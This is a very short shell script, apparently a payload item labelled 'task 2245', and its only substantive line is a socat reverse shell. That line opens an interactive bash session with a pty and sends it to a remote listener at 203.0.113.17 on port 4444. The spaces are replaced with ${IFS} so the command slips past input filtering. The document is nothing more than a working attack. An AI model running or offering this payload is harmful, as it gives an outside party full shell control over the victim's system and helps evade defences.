#${IFS}task${IFS}2245$IFS$9v4
#!/bin/sh
socat${IFS}exec:'bash${IFS}-li',pty,stderr,setsid,sigint,sane${IFS}tcp:203.0.113.17:4444
